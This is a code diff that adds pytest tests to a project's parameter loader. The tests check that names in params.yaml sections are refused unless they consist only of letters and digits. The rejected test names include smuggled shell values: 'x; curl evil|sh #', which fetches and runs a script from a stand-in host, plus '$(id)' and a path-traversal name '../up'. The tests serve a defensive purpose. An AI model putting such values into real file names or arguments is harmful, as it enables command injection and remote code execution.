@@ -202,3 +202,19 @@ def test_corpora_load_without_the_rest(tmp_path: Path) -> None:
     path = tmp_path / "params.yaml"
     path.write_text(GOOD.split("encoders:")[0], encoding="utf-8")
     assert params.load_corpora(path)["notes"].source == ("notes/*.txt",)
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh #", "../up", "-x", "a b", "$(id)"])
+@pytest.mark.parametrize("section", ["corpora", "encoders", "recipes"])
+def test_names_that_could_be_more_than_names_are_refused(tmp_path: Path, section: str, name: str) -> None:
+    path = tmp_path / "params.yaml"
+    path.write_text(json.dumps({section: {name: {}}}))
+    with pytest.raises(InputError, match="names are letters and digits"):
+        params.load(path)
+
+
+def test_name_of_a_labelled_set_is_a_name(tmp_path: Path) -> None:
+    path = tmp_path / "params.yaml"
+    path.write_text(json.dumps({"corpora": {"a": {"modality": "text", "tasks": {"../up": {"from": "x"}}}}}))
+    with pytest.raises(InputError, match="corpora.a.tasks.../up: names are"):
+        params.load_corpora(path)
